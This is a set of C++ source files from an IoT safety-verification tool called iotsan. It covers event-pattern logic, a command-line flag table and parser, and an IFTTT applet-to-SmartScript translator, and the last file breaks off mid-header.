      return value.empty() || other.value.empty() || value == other.value;
    case EventScope::kDevice:
      // An empty attribute is a wildcard (dynamic-discovery apps can
      // actuate anything).
      if (!attribute.empty() && !other.attribute.empty() &&
          attribute != other.attribute) {
        return false;
      }
      return value.empty() || other.value.empty() || value == other.value;
  }
  return false;
}

bool EventPattern::ConflictsWith(const EventPattern& other) const {
  if (scope != other.scope) return false;
  if (scope == EventScope::kDevice && attribute != other.attribute) {
    return false;
  }
  if (scope == EventScope::kAppTouch || scope == EventScope::kTime) {
    return false;
  }
  return !value.empty() && !other.value.empty() && value != other.value;
}

const HandlerInfo* AnalyzedApp::FindHandler(const std::string& name) const {
  for (const HandlerInfo& h : handlers) {
    if (h.name == name) return &h;
  }
  return nullptr;
}

}  // namespace iotsan::ir
