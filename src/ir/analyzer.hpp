// Static analysis: dsl::App -> ir::AnalyzedApp.
#pragma once

#include <string_view>

#include "ir/analyzed_app.hpp"

namespace iotsan::ir {

/// Runs the full static analysis over a parsed app: type inference,
/// subscription/schedule extraction, per-handler input/output event
/// summaries (propagated over the app's internal call graph), API-use
/// collection, and dynamic-discovery detection.
AnalyzedApp AnalyzeApp(dsl::App app);

/// Convenience: parse + analyze.
AnalyzedApp AnalyzeSource(std::string_view source,
                          std::string_view source_name = "<app>");

}  // namespace iotsan::ir
