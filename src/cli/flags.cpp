#include "cli/flags.hpp"

#include <cctype>
#include <cerrno>
#include <cstdlib>

#include "util/error.hpp"

namespace iotsan::cli {

namespace {

constexpr FlagSpec kFlagTable[] = {
    {Flag::kEvents, "--events", "N",
     kCmdCheck | kCmdAttribute | kCmdPromela | kCmdCluster,
     "external-event bound per run (Algorithm 1; default 3, attribute: 2)",
     1, 64},
    {Flag::kJobs, "--jobs", "N",
     kCmdCheck | kCmdAttribute | kCmdServe | kCmdCluster,
     "worker threads for the search (0 = all hardware threads; default 1, "
     "serve: 0); the report is identical for any N",
     0, 1024},
    {Flag::kFailures, "--failures", nullptr, kCmdCheck | kCmdCluster,
     "enumerate device/communication failure scenarios per event (paper §8)"},
    {Flag::kMono, "--mono", nullptr, kCmdCheck,
     "skip dependency analysis; check all apps in one monolithic model"},
    {Flag::kBitstate, "--bitstate", nullptr,
     kCmdCheck | kCmdAttribute | kCmdCluster,
     "use Spin-style BITSTATE hashing instead of the exhaustive store"},
    {Flag::kBitstateBits, "--bitstate-bits", "P",
     kCmdCheck | kCmdAttribute | kCmdCluster,
     "BITSTATE bit-field size as a power of two (Spin -w; default 27 = "
     "16 MiB)",
     10, 40},
    {Flag::kPor, "--por", nullptr, kCmdCheck | kCmdAttribute | kCmdCluster,
     "ample-set partial-order reduction: expand a single pending dispatch "
     "when it provably commutes with the rest (concurrent scheduling only)"},
    {Flag::kStateCompression, "--state-compression", nullptr,
     kCmdCheck | kCmdAttribute | kCmdCluster,
     "Spin-style COLLAPSE store keys: intern per-device/app-state/timer "
     "components instead of hashing full state vectors"},
    {Flag::kFirst, "--first", nullptr, kCmdCheck | kCmdCluster,
     "stop at the first property violation"},
    {Flag::kProperties, "--properties", "FILE", kCmdCheck | kCmdCluster,
     "load additional user-defined safety properties from JSON"},
    {Flag::kAllowDiscovery, "--allow-discovery", nullptr,
     kCmdCheck | kCmdAttribute | kCmdCluster,
     "check dynamic-device-discovery apps instead of rejecting them"},
    {Flag::kStats, "--stats", nullptr,
     kCmdCheck | kCmdAttribute | kCmdDeps | kCmdServe | kCmdCluster,
     "print telemetry after the run: counters, per-phase durations, store "
     "diagnostics"},
    {Flag::kTraceOut, "--trace-out", "FILE",
     kCmdCheck | kCmdAttribute | kCmdDeps | kCmdServe,
     "write a JSONL span trace (one JSON object per line) to FILE"},
    {Flag::kProgressEvery, "--progress-every", "N", kCmdCheck,
     "report search progress to stderr every N expanded states",
     0, 1000000000000000000LL},
    {Flag::kArtifactsDir, "--artifacts-dir", "DIR",
     kCmdCheck | kCmdAttribute,
     "write one violation artifact (JSON: run manifest + structured "
     "trace) per violated property into DIR"},
    {Flag::kReplay, "--replay", "FILE", kCmdCheck,
     "deterministically re-execute a recorded violation artifact instead "
     "of searching; exit 0 iff it reproduces"},
    {Flag::kReverifyBitstate, "--reverify-bitstate", nullptr,
     kCmdCheck | kCmdAttribute,
     "replay-verify every BITSTATE violation with an exhaustive store "
     "before reporting it (false-positive filter)"},
    {Flag::kCacheDir, "--cache-dir", "DIR",
     kCmdCheck | kCmdAttribute | kCmdServe,
     "memoize per-group verification results in DIR; warm re-checks of "
     "unchanged groups skip the search (see docs/caching.md)"},
    {Flag::kMetricsOut, "--metrics-out", "FILE", kCmdCheck,
     "write counters and latency histograms as Prometheus text "
     "exposition (the same format GET /v1/metrics serves) to FILE"},
    {Flag::kAccessLog, "--access-log", "FILE", kCmdServe,
     "append one JSON line per request (request id, status, latency, "
     "queue wait, cache delta) to FILE"},
    {Flag::kRegistryDir, "--registry-dir", "DIR", kCmdServe,
     "persist fleet deployments (/v1/deployments) in DIR; without it "
     "the registry is memory-only (docs/fleet.md)"},
    {Flag::kIfMatch, "--if-match", "REVISION", kCmdFleet,
     "fleet check: only run against this deployment revision (the ETag "
     "from put/get); a stale pin fails with the server's 409"},
    {Flag::kHost, "--host", "ADDR", kCmdServe | kCmdTop | kCmdFleet,
     "bind address for the HTTP service (default 127.0.0.1); top/fleet: "
     "the address to call"},
    {Flag::kPort, "--port", "N", kCmdServe | kCmdTop | kCmdFleet,
     "TCP port for the HTTP service (0 = kernel-assigned; default 8080); "
     "top/fleet: the port to call",
     0, 65535},
    {Flag::kHttpWorkers, "--http-workers", "N", kCmdServe,
     "HTTP session threads draining the accept queue (default 4)",
     1, 256},
    {Flag::kMaxQueue, "--max-queue", "N", kCmdServe,
     "accepted-connection queue bound; beyond it the acceptor sheds "
     "with 503 queue_full (default 64)",
     1, 65536},
    {Flag::kDeadline, "--deadline", "SECONDS", kCmdServe | kCmdCluster,
     "default wall-clock budget per request, seconds (0 = none); "
     "requests may override via options.deadlineSeconds",
     0, 86400},
    {Flag::kLogLevel, "--log-level", "LEVEL", kCmdServe,
     "structured-log threshold on stderr: debug, info, warn (default), "
     "error, or off (docs/observability.md)"},
    {Flag::kLogJson, "--log-json", nullptr, kCmdServe,
     "emit structured log lines as JSON objects instead of text"},
    {Flag::kInterval, "--interval", "SECONDS", kCmdTop,
     "refresh period of the live status view (default 2)",
     1, 3600},
    {Flag::kOnce, "--once", nullptr, kCmdTop,
     "print one status snapshot and exit (plain output, no screen "
     "redraw)"},
    {Flag::kWorkers, "--workers", "LIST", kCmdServe | kCmdCluster,
     "comma-separated worker endpoints (host:port,...) the coordinator "
     "dispatches work units to (docs/cluster.md)"},
    {Flag::kCoordinator, "--coordinator", nullptr, kCmdServe,
     "serve as a cluster coordinator: plan /v1/check requests into work "
     "units and dispatch them across --workers"},
    {Flag::kUnitDeadline, "--unit-deadline", "SECONDS",
     kCmdServe | kCmdCluster,
     "per-work-unit dispatch deadline before the coordinator retries or "
     "re-dispatches (default 600)",
     1, 86400},
    {Flag::kBranchSplit, "--branch-split", "N", kCmdServe | kCmdCluster,
     "split each related-set group into N root-branch shards (verdicts "
     "unchanged; summed state counts reflect the aggregate work)",
     0, 4096},
    {Flag::kSwarmLanes, "--swarm-lanes", "N", kCmdServe | kCmdCluster,
     "bitstate swarm: re-run each group under N diverse hash seeds and "
     "union the violations (needs --bitstate)",
     0, 4096},
    {Flag::kNoLocalFallback, "--no-local-fallback", nullptr,
     kCmdServe | kCmdCluster,
     "fail the check when no worker is reachable instead of degrading "
     "to local execution"},
    {Flag::kHelp, "--help", nullptr,
     kCmdCheck | kCmdAttribute | kCmdDeps | kCmdPromela | kCmdServe |
         kCmdTop | kCmdFleet | kCmdCluster,
     "show this help"},
};

struct CommandSpec {
  unsigned id;
  const char* name;
  const char* positionals;
  const char* summary;
};

constexpr CommandSpec kCommands[] = {
    {kCmdCheck, "check", "<deployment.json>",
     "verify a deployment against the active safety properties"},
    {kCmdAttribute, "attribute", "<app.smartscript|corpus-name> "
                                 "<deployment.json>",
     "vet a new app before installation (§9 Output Analyzer)"},
    {kCmdDeps, "deps", "<deployment.json>",
     "print the dependency graph and related sets (§5)"},
    {kCmdPromela, "promela", "<deployment.json>",
     "emit the generated Promela model (§6/§8)"},
    {kCmdServe, "serve", "",
     "run the resident HTTP/JSON verification service (docs/server.md)"},
    {kCmdTop, "top", "",
     "live terminal view of a running service's in-flight checks "
     "(polls GET /v1/status)"},
    {kCmdFleet, "fleet", "<list|put|get|rm|check> [id] [deployment.json]",
     "manage a serving fleet registry over /v1/deployments "
     "(docs/fleet.md)"},
    {kCmdCluster, "cluster", "check <deployment.json> --workers LIST",
     "coordinate one verification across remote iotsan workers "
     "(docs/cluster.md)"},
    {0, "cache", "<stats|prune|clear> <DIR>",
     "inspect or maintain an incremental-analysis cache directory"},
    {0, "apps", "", "list the bundled corpus apps"},
    {0, "version", "", "print the tool version and build information"},
    {0, "help", "", "show this help"},
};

/// Flag letters for the global help ("CA" = check and attribute).
std::string CommandLetters(unsigned mask) {
  std::string out;
  if (mask & kCmdCheck) out += 'C';
  if (mask & kCmdAttribute) out += 'A';
  if (mask & kCmdDeps) out += 'D';
  if (mask & kCmdPromela) out += 'P';
  if (mask & kCmdServe) out += 'S';
  if (mask & kCmdTop) out += 'T';
  if (mask & kCmdFleet) out += 'F';
  if (mask & kCmdCluster) out += 'L';
  return out;
}

std::string FlagUsage(const FlagSpec& spec) {
  std::string out = spec.name;
  if (spec.arg != nullptr) {
    out += ' ';
    out += spec.arg;
  }
  return out;
}

}  // namespace

std::span<const FlagSpec> FlagTable() { return kFlagTable; }

const FlagSpec* FindFlag(const std::string& name) {
  for (const FlagSpec& spec : kFlagTable) {
    if (name == spec.name) return &spec;
  }
  return nullptr;
}

std::string UsageFor(unsigned command) {
  std::string out = "usage: iotsan";
  for (const CommandSpec& cmd : kCommands) {
    if (cmd.id != command) continue;
    out += ' ';
    out += cmd.name;
    if (cmd.positionals[0] != '\0') {
      out += ' ';
      out += cmd.positionals;
    }
  }
  for (const FlagSpec& spec : kFlagTable) {
    if (spec.id == Flag::kHelp || !(spec.commands & command)) continue;
    out += " [" + FlagUsage(spec) + "]";
  }
  return out;
}

void PrintHelp(std::FILE* out) {
  std::fprintf(out, "iotsan — IoT safety sanitizer (IotSan, CoNEXT '18)\n\n");
  std::fprintf(out, "commands:\n");
  for (const CommandSpec& cmd : kCommands) {
    std::string invocation = cmd.name;
    if (cmd.positionals[0] != '\0') {
      invocation += ' ';
      invocation += cmd.positionals;
    }
    std::fprintf(out, "  %-52s %s\n", invocation.c_str(), cmd.summary);
  }
  std::fprintf(out, "\nflags (letters mark the accepting commands: "
                    "C=check, A=attribute, D=deps, P=promela, S=serve, "
                    "T=top, F=fleet, L=cluster):\n");
  for (const FlagSpec& spec : kFlagTable) {
    if (spec.id == Flag::kHelp) continue;
    std::fprintf(out, "  %-4s %-22s %s\n",
                 CommandLetters(spec.commands).c_str(),
                 FlagUsage(spec).c_str(), spec.help);
  }
  std::fprintf(out,
               "\ntelemetry: --stats prints counters, per-phase durations "
               "and store fill after the\nrun; --trace-out writes one JSON "
               "object per span (name, start_us, dur_us, depth,\nattrs).  "
               "See docs/observability.md for the schema and the counter "
               "taxonomy.\n");
}

long long ParseFlagInt(const std::string& flag, const std::string& value,
                       long long min_value, long long max_value) {
  errno = 0;
  char* end = nullptr;
  const long long parsed = std::strtoll(value.c_str(), &end, 10);
  // strtoll silently skips leading whitespace; a flag value must be all
  // digits (with an optional sign), nothing else.
  const bool leading_space =
      !value.empty() && std::isspace(static_cast<unsigned char>(value[0]));
  if (value.empty() || leading_space || end != value.c_str() + value.size() ||
      errno != 0) {
    throw Error("option " + flag + " wants an integer, got '" + value + "'");
  }
  if (parsed < min_value || parsed > max_value) {
    throw Error("option " + flag + " wants a value in [" +
                std::to_string(min_value) + ", " + std::to_string(max_value) +
                "], got " + value);
  }
  return parsed;
}

std::vector<std::string> ParseFlags(unsigned command,
                                    const std::vector<std::string>& args,
                                    CliFlags& flags) {
  std::vector<std::string> positionals;
  for (std::size_t i = 0; i < args.size(); ++i) {
    const std::string& arg = args[i];
    if (arg.rfind("--", 0) != 0) {
      positionals.push_back(arg);
      continue;
    }
    const FlagSpec* spec = FindFlag(arg);
    if (spec == nullptr) {
      throw Error("unknown option: " + arg + " (see 'iotsan help')");
    }
    if (!(spec->commands & command)) {
      throw Error("option " + arg + " does not apply to this command\n" +
                  UsageFor(command));
    }
    std::string value;
    long long number = 0;
    if (spec->arg != nullptr) {
      if (i + 1 >= args.size()) {
        throw Error("option " + arg + " needs a value (" + spec->arg + ")");
      }
      value = args[++i];
      // Numeric flags declare their valid range in the table; validate
      // here so every command (and the tests) share one strict parser.
      if (spec->min < spec->max) {
        number = ParseFlagInt(spec->name, value, spec->min, spec->max);
      }
    }
    switch (spec->id) {
      case Flag::kEvents: flags.events = static_cast<int>(number); break;
      case Flag::kJobs: flags.jobs = static_cast<int>(number); break;
      case Flag::kFailures: flags.failures = true; break;
      case Flag::kMono: flags.mono = true; break;
      case Flag::kBitstate: flags.bitstate = true; break;
      case Flag::kBitstateBits:
        flags.bitstate_bits_pow = static_cast<int>(number);
        flags.bitstate = true;
        break;
      case Flag::kPor: flags.por = true; break;
      case Flag::kStateCompression: flags.state_compression = true; break;
      case Flag::kFirst: flags.first = true; break;
      case Flag::kProperties: flags.properties_path = value; break;
      case Flag::kAllowDiscovery: flags.allow_discovery = true; break;
      case Flag::kStats: flags.stats = true; break;
      case Flag::kTraceOut: flags.trace_out = value; break;
      case Flag::kProgressEvery:
        flags.progress_every = static_cast<std::uint64_t>(number);
        break;
      case Flag::kArtifactsDir: flags.artifacts_dir = value; break;
      case Flag::kReplay: flags.replay_path = value; break;
      case Flag::kReverifyBitstate: flags.reverify_bitstate = true; break;
      case Flag::kCacheDir: flags.cache_dir = value; break;
      case Flag::kMetricsOut: flags.metrics_out = value; break;
      case Flag::kAccessLog: flags.access_log = value; break;
      case Flag::kRegistryDir: flags.registry_dir = value; break;
      case Flag::kIfMatch: flags.if_match = value; break;
      case Flag::kHost: flags.host = value; break;
      case Flag::kPort: flags.port = static_cast<int>(number); break;
      case Flag::kHttpWorkers:
        flags.http_workers = static_cast<int>(number);
        break;
      case Flag::kMaxQueue: flags.max_queue = static_cast<int>(number); break;
      case Flag::kDeadline:
        flags.deadline_seconds = static_cast<int>(number);
        break;
      case Flag::kLogLevel: flags.log_level = value; break;
      case Flag::kLogJson: flags.log_json = true; break;
      case Flag::kInterval:
        flags.interval_seconds = static_cast<int>(number);
        break;
      case Flag::kOnce: flags.once = true; break;
      case Flag::kWorkers: flags.workers = value; break;
      case Flag::kCoordinator: flags.coordinator = true; break;
      case Flag::kUnitDeadline:
        flags.unit_deadline_seconds = static_cast<int>(number);
        break;
      case Flag::kBranchSplit:
        flags.branch_split = static_cast<int>(number);
        break;
      case Flag::kSwarmLanes:
        flags.swarm_lanes = static_cast<int>(number);
        break;
      case Flag::kNoLocalFallback: flags.no_local_fallback = true; break;
      case Flag::kHelp: flags.help = true; break;
    }
  }
  return positionals;
}

}  // namespace iotsan::cli
