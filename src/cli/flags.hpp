// Shared command-line flag table for the iotsan tool.
//
// Flags are declared once in FlagTable() — the parser, the generated
// help text, and the per-command usage lines all read it, so the three
// cannot drift.  Living in src/cli (instead of the tool's main file)
// makes the table and the strict numeric validation unit-testable
// without spawning the binary.
#pragma once

#include <cstdint>
#include <cstdio>
#include <span>
#include <string>
#include <vector>

namespace iotsan::cli {

/// Commands that accept flags, as a bitmask (FlagSpec::commands).
enum : unsigned {
  kCmdCheck = 1u << 0,
  kCmdAttribute = 1u << 1,
  kCmdDeps = 1u << 2,
  kCmdPromela = 1u << 3,
  kCmdServe = 1u << 4,
  kCmdTop = 1u << 5,
  kCmdFleet = 1u << 6,
  kCmdCluster = 1u << 7,
};

enum class Flag {
  kEvents,
  kJobs,
  kFailures,
  kMono,
  kBitstate,
  kBitstateBits,
  kPor,
  kStateCompression,
  kFirst,
  kProperties,
  kAllowDiscovery,
  kStats,
  kTraceOut,
  kProgressEvery,
  kArtifactsDir,
  kReplay,
  kReverifyBitstate,
  kCacheDir,
  kMetricsOut,
  kAccessLog,
  kRegistryDir,
  kIfMatch,
  kHost,
  kPort,
  kHttpWorkers,
  kMaxQueue,
  kDeadline,
  kLogLevel,
  kLogJson,
  kInterval,
  kOnce,
  kWorkers,
  kCoordinator,
  kUnitDeadline,
  kBranchSplit,
  kSwarmLanes,
  kNoLocalFallback,
  kHelp,
};

struct FlagSpec {
  Flag id;
  const char* name;
  const char* arg;    // metavar; nullptr when the flag takes no value
  unsigned commands;  // bitmask of commands accepting the flag
  const char* help;
  // Valid range for numeric-valued flags (min < max marks the flag as
  // numeric; the parser strictly validates the value against it).
  long long min = 0;
  long long max = 0;
};

/// The full flag table, in help order.
std::span<const FlagSpec> FlagTable();

/// Looks a flag up by its exact `--name`; nullptr when unknown.
const FlagSpec* FindFlag(const std::string& name);

/// "usage: iotsan check <deployment.json> [--events N] [...]", generated
/// from the tables so usage errors always list exactly the accepted flags.
std::string UsageFor(unsigned command);

/// The full command + flag reference (`iotsan help`).
void PrintHelp(std::FILE* out);

/// Strictly parses a numeric flag value: the whole string must be a
/// decimal integer within [min_value, max_value].  Throws iotsan::Error
/// naming the flag on malformed input ("--jobs four", "--jobs 4x",
/// empty, overflow) or an out-of-range value.
long long ParseFlagInt(const std::string& flag, const std::string& value,
                       long long min_value, long long max_value);

/// Values collected from the flag table; each command reads the fields
/// relevant to it.
struct CliFlags {
  int events = -1;  // -1 = keep the command's default
  int jobs = 1;     // worker threads (0 = hardware concurrency)
  bool failures = false;
  bool mono = false;
  bool bitstate = false;
  int bitstate_bits_pow = 0;  // 0 = default (27)
  bool por = false;               // ample-set partial-order reduction
  bool state_compression = false; // COLLAPSE store-key compression
  bool first = false;
  bool allow_discovery = false;
  bool stats = false;
  bool help = false;
  bool reverify_bitstate = false;
  std::string properties_path;
  std::string trace_out;
  std::string artifacts_dir;
  std::string replay_path;
  std::string cache_dir;
  std::string metrics_out;   // Prometheus exposition file (check)
  std::string access_log;    // JSONL access log file (serve)
  std::string registry_dir;  // fleet registry persistence root (serve)
  std::string if_match;      // revision pin for `fleet check` ("" = none)
  std::uint64_t progress_every = 0;
  // serve + top + fleet
  std::string host = "127.0.0.1";
  int port = 8080;            // 0 = kernel-assigned ephemeral port
  int http_workers = 4;       // HTTP session threads
  int max_queue = 64;         // accept-queue bound before 503 shedding
  int deadline_seconds = 0;   // default per-request budget (0 = none)
  std::string log_level;      // structured-log threshold ("" = default warn)
  bool log_json = false;      // structured logs as JSON lines
  // top
  int interval_seconds = 2;   // refresh period of the live view
  bool once = false;          // one snapshot, then exit
  // cluster (+ serve --coordinator); docs/cluster.md
  std::string workers;        // "host:port,host:port,..." worker fleet
  bool coordinator = false;   // serve: dispatch /v1/check across workers
  int unit_deadline_seconds = 600;  // per-unit dispatch deadline
  int branch_split = 0;       // root-branch shards per group (0/1 = off)
  int swarm_lanes = 0;        // bitstate swarm lanes per group (0/1 = off)
  bool no_local_fallback = false;  // fail instead of degrading to local
};

/// Parses `args` for `command`, separating positionals from flags.
/// Throws iotsan::Error on unknown flags, missing or malformed values,
/// or flags the command does not accept.
std::vector<std::string> ParseFlags(unsigned command,
                                    const std::vector<std::string>& args,
                                    CliFlags& flags);

}  // namespace iotsan::cli
