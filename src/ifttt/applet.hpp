// IFTTT front-end (paper §11).
//
// IFTTT applets ("IF This Then That" rules) have a Trigger Service and an
// Action Service.  As in the paper, each rule is translated into a
// one-handler app — the subscribed device and event come from the trigger
// service, the controlled device and command from the action service —
// and the rest of the IotSan pipeline is reused unchanged.  Eight
// IoT-relevant services are modeled as sensor or actuator devices.
#pragma once

#include <string>
#include <vector>

#include "config/deployment.hpp"
#include "util/json.hpp"

namespace iotsan::ifttt {

/// One parsed applet.
struct Applet {
  std::string name;             // rule name, e.g. "rule #1"
  std::string trigger_service;  // "smartthings_motion", "alexa", ...
  std::string trigger_event;    // "active", "open", a phrase for voice
  std::string action_service;   // "ring_siren", "august_lock", ...
  std::string action_command;   // "siren", "unlock", "on", ...
};

/// A modeled IFTTT service: how it maps onto a device.
struct ServiceSpec {
  std::string name;          // service id in applet JSON
  std::string device_type;   // devices::DeviceTypeRegistry type
  std::string attribute;     // trigger attribute (sensor services)
  bool is_trigger = false;   // usable as "This"
  bool is_action = false;    // usable as "That"
};

/// The modeled services (the paper models 8 popular IoT services).
const std::vector<ServiceSpec>& Services();
const ServiceSpec* FindService(const std::string& name);

/// Parses one applet from JSON:
///   {"name": "rule #1",
///    "trigger": {"service": "smartthings_motion", "event": "active"},
///    "action": {"service": "ring_siren", "command": "siren"}}
Applet ParseApplet(const json::Value& doc);

/// Parses a JSON array of applets.
std::vector<Applet> ParseApplets(std::string_view json_text);

/// Translates the applet into a one-handler SmartScript app (the paper's
/// IFTTT-to-Java translation, retargeted at SmartScript).  The app's
/// single input is named "triggerDev"; the controlled device "actionDev".
std::string ToSmartScript(const Applet& applet);

/// Builds a deployment installing `applets` in one smart home: one device
/// per distinct service, with sensible roles for the safety properties.
/// The returned deployment's app sources must be registered with
/// Sanitizer::AddAppSource using RuleSources().
config::Deployment BuildDeployment(const std::vector<Applet>& applets,
                                   const std::string& name = "ifttt home");

/// (app name, SmartScript source) pairs for the translated rules.
std::vector<std::pair<std::string, std::string>> RuleSources(
    const std::vector<Applet>& applets);

}  // namespace iotsan::ifttt
