#include "ifttt/applet.hpp"

#include <map>
#include <set>

#include "devices/device_type.hpp"
#include "util/error.hpp"

namespace iotsan::ifttt {

const std::vector<ServiceSpec>& Services() {
  static const std::vector<ServiceSpec>& services =
      *new std::vector<ServiceSpec>{
          // Trigger services (sensors).
          {"smartthings_motion", "motionSensor", "motion", true, false},
          {"smartthings_contact", "contactSensor", "contact", true, false},
          {"smartthings_presence", "presenceSensor", "presence", true, false},
          {"amazon_alexa", "buttonController", "button", true, false},
          {"google_assistant", "buttonController", "button", true, false},
          // Action services (actuators).
          {"ring_siren", "smartAlarm", "alarm", false, true},
          {"august_lock", "smartLock", "lock", false, true},
          {"wemo_switch", "smartSwitch", "switch", false, true},
          {"voip_call", "voipCall", "call", false, true},
          {"myq_garage", "doorController", "door", false, true},
          {"nest_thermostat", "thermostatDevice", "thermostatMode", false,
           true},
      };
  return services;
}

const ServiceSpec* FindService(const std::string& name) {
  for (const ServiceSpec& service : Services()) {
    if (service.name == name) return &service;
  }
  return nullptr;
}

Applet ParseApplet(const json::Value& doc) {
  Applet applet;
  applet.name = doc.GetString("name");
  const json::Value& trigger = doc.At("trigger");
  const json::Value& action = doc.At("action");
  applet.trigger_service = trigger.GetString("service");
  applet.trigger_event = trigger.GetString("event");
  applet.action_service = action.GetString("service");
  applet.action_command = action.GetString("command");

  if (applet.name.empty()) throw ParseError("applet needs a name");
  const ServiceSpec* ts = FindService(applet.trigger_service);
  if (ts == nullptr || !ts->is_trigger) {
    throw SemanticError("applet '" + applet.name +
                        "': unknown trigger service '" +
                        applet.trigger_service + "'");
  }
  const ServiceSpec* as = FindService(applet.action_service);
  if (as == nullptr || !as->is_action) {
    throw SemanticError("applet '" + applet.name +
                        "': unknown action service '" +
                        applet.action_service + "'");
  }
  // Validate the command against the action device type.
  const devices::DeviceTypeSpec* type =
      devices::DeviceTypeRegistry::Instance().Find(as->device_type);
  if (type == nullptr || type->FindCommand(applet.action_command) == nullptr) {
    throw SemanticError("applet '" + applet.name + "': action service '" +
                        applet.action_service + "' has no command '" +
                        applet.action_command + "'");
  }
  return applet;
}

std::vector<Applet> ParseApplets(std::string_view json_text) {
  std::vector<Applet> out;
  const json::Value doc = json::Parse(json_text);
  for (const json::Value& entry : doc.AsArray()) {
    out.push_back(ParseApplet(entry));
  }
  return out;
}

namespace {

/// Capability (within `type`) that owns `attribute`.
std::string CapabilityOfAttribute(const std::string& device_type,
                                  const std::string& attribute) {
  const devices::DeviceTypeSpec* type =
      devices::DeviceTypeRegistry::Instance().Find(device_type);
  if (type == nullptr) throw SemanticError("unknown type " + device_type);
  for (const std::string& cap_name : type->capabilities) {
    const devices::CapabilitySpec* cap =
        devices::CapabilityRegistry::Instance().Find(cap_name);
    if (cap != nullptr && cap->FindAttribute(attribute) != nullptr) {
      return cap_name;
    }
  }
  throw SemanticError("type " + device_type + " has no attribute " +
                      attribute);
}

/// Capability (within `type`) that owns `command`.
std::string CapabilityOfCommand(const std::string& device_type,
                                const std::string& command) {
  const devices::DeviceTypeSpec* type =
      devices::DeviceTypeRegistry::Instance().Find(device_type);
  if (type == nullptr) throw SemanticError("unknown type " + device_type);
  for (const std::string& cap_name : type->capabilities) {
    const devices::CapabilitySpec* cap =
        devices::CapabilityRegistry::Instance().Find(cap_name);
    if (cap != nullptr && cap->FindCommand(command) != nullptr) {
      return cap_name;
    }
  }
  throw SemanticError("type " + device_type + " has no command " + command);
}

/// Roles attached to each service's device so the built-in safety
/// properties bind (paper Table 9's properties reference intrusion,
/// locks, sirens, and phone calls).
std::vector<std::string> RolesForService(const ServiceSpec& service) {
  if (service.name == "smartthings_motion") return {"securityMotion"};
  if (service.name == "smartthings_contact") return {"frontDoorContact"};
  if (service.name == "smartthings_presence") return {"presence"};
  if (service.name == "ring_siren") return {"alarmSiren"};
  if (service.name == "august_lock") return {"mainDoorLock"};
  if (service.name == "wemo_switch") return {"light"};
  if (service.name == "voip_call") return {"phoneCall"};
  if (service.name == "myq_garage") return {"garageDoor"};
  return {};
}

}  // namespace

std::string ToSmartScript(const Applet& applet) {
  const ServiceSpec& trigger = *FindService(applet.trigger_service);
  const ServiceSpec& action = *FindService(applet.action_service);
  const std::string trigger_cap =
      CapabilityOfAttribute(trigger.device_type, trigger.attribute);
  const std::string action_cap =
      CapabilityOfCommand(action.device_type, applet.action_command);

  // Voice phrases map onto button pushes: the phrase itself is free text.
  std::string event_spec = trigger.attribute;
  const devices::DeviceTypeSpec* trigger_type =
      devices::DeviceTypeRegistry::Instance().Find(trigger.device_type);
  const devices::AttributeSpec* attr =
      trigger_type->FindAttribute(trigger.attribute);
  if (attr != nullptr && attr->IndexOfValue(applet.trigger_event) >= 0) {
    event_spec += "." + applet.trigger_event;
  } else if (trigger.attribute == "button") {
    event_spec += ".pushed";  // any phrase = a push of the voice trigger
  }

  std::string out;
  out += "definition(name: \"" + applet.name + "\",\n";
  out += "    namespace: \"iotsan.ifttt\", author: \"ifttt\",\n";
  out += "    description: \"IF " + applet.trigger_service + "/" +
         applet.trigger_event + " THEN " + applet.action_service + "." +
         applet.action_command + "\")\n\n";
  out += "preferences {\n";
  out += "    section(\"Trigger\") {\n";
  out += "        input \"triggerDev\", \"capability." + trigger_cap +
         "\", title: \"Trigger\"\n";
  out += "    }\n";
  out += "    section(\"Action\") {\n";
  out += "        input \"actionDev\", \"capability." + action_cap +
         "\", title: \"Action\"\n";
  out += "    }\n";
  out += "}\n\n";
  out += "def installed() {\n";
  out += "    subscribe(triggerDev, \"" + event_spec + "\", ruleHandler)\n";
  out += "}\n\n";
  out += "def ruleHandler(evt) {\n";
  out += "    actionDev." + applet.action_command + "()\n";
  out += "}\n";
  return out;
}

config::Deployment BuildDeployment(const std::vector<Applet>& applets,
                                   const std::string& name) {
  config::Deployment deployment;
  deployment.name = name;

  std::set<std::string> services_used;
  for (const Applet& applet : applets) {
    services_used.insert(applet.trigger_service);
    services_used.insert(applet.action_service);
  }
  // Deterministic device per service.
  for (const ServiceSpec& service : Services()) {
    if (!services_used.count(service.name)) continue;
    config::DeviceConfig device;
    device.id = service.name + "Dev";
    device.type = service.device_type;
    device.roles = RolesForService(service);
    deployment.devices.push_back(std::move(device));
  }

  for (const Applet& applet : applets) {
    config::AppConfig app;
    app.app = applet.name;
    app.label = applet.name;
    config::Binding trigger_binding;
    trigger_binding.device_ids = {applet.trigger_service + "Dev"};
    app.inputs["triggerDev"] = std::move(trigger_binding);
    config::Binding action_binding;
    action_binding.device_ids = {applet.action_service + "Dev"};
    app.inputs["actionDev"] = std::move(action_binding);
    deployment.apps.push_back(std::move(app));
  }
  return deployment;
}

std::vector<std::pair<std::string, std::string>> RuleSources(
    const std::vector<Applet>& applets) {
  std::vector<std::pair<std::string, std::string>> out;
  for (const Applet& applet : applets) {
    out.emplace_back(applet.name, ToSmartScript(applet));
  }
  return out;
}

}  // namespace iotsan::ifttt
