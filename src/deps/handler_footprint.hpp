// Pattern-level handler footprints for partial-order reduction.
//
// The dependency graph (§5) already classifies each handler's interface
// into input and output event patterns.  The POR layer needs the same
// information viewed as a read/write footprint: which patterns a handler
// may *read* (device state reads, mode reads) and which it may *write*
// (actuator commands, mode changes, synthetic sendEvent events), plus
// whether it touches the app's persistent `state` map or arms one-shot
// timers.  Resolution of these patterns against a concrete deployment —
// turning (input, attribute) pairs into device/attribute slots — happens
// in model/footprint.*; this header stays at the pattern level so it can
// be unit-tested without a deployment.
#pragma once

#include <vector>

#include "ir/analyzed_app.hpp"

namespace iotsan::deps {

/// The static read/write interface of one handler, before resolution
/// against a deployment.
struct PatternFootprint {
  /// Device-attribute / mode patterns the handler may read.
  std::vector<ir::EventPattern> reads;
  /// Device-attribute / mode patterns the handler may write (actuator
  /// commands, location.mode assignments, synthetic sendEvent outputs).
  std::vector<ir::EventPattern> writes;
  bool touches_app_state = false;
  bool creates_timer = false;
  /// True when the handler carries a wildcard output (dynamic device
  /// discovery): its write set cannot be bounded statically, so POR must
  /// treat it as conflicting with everything.
  bool unknown = false;
};

/// True for the conservative wildcard pattern dynamic-discovery apps get
/// attached to every handler (kDevice scope, no input, no attribute).
bool IsWildcardPattern(const ir::EventPattern& pattern);

/// Derives the pattern-level footprint of `handler`.
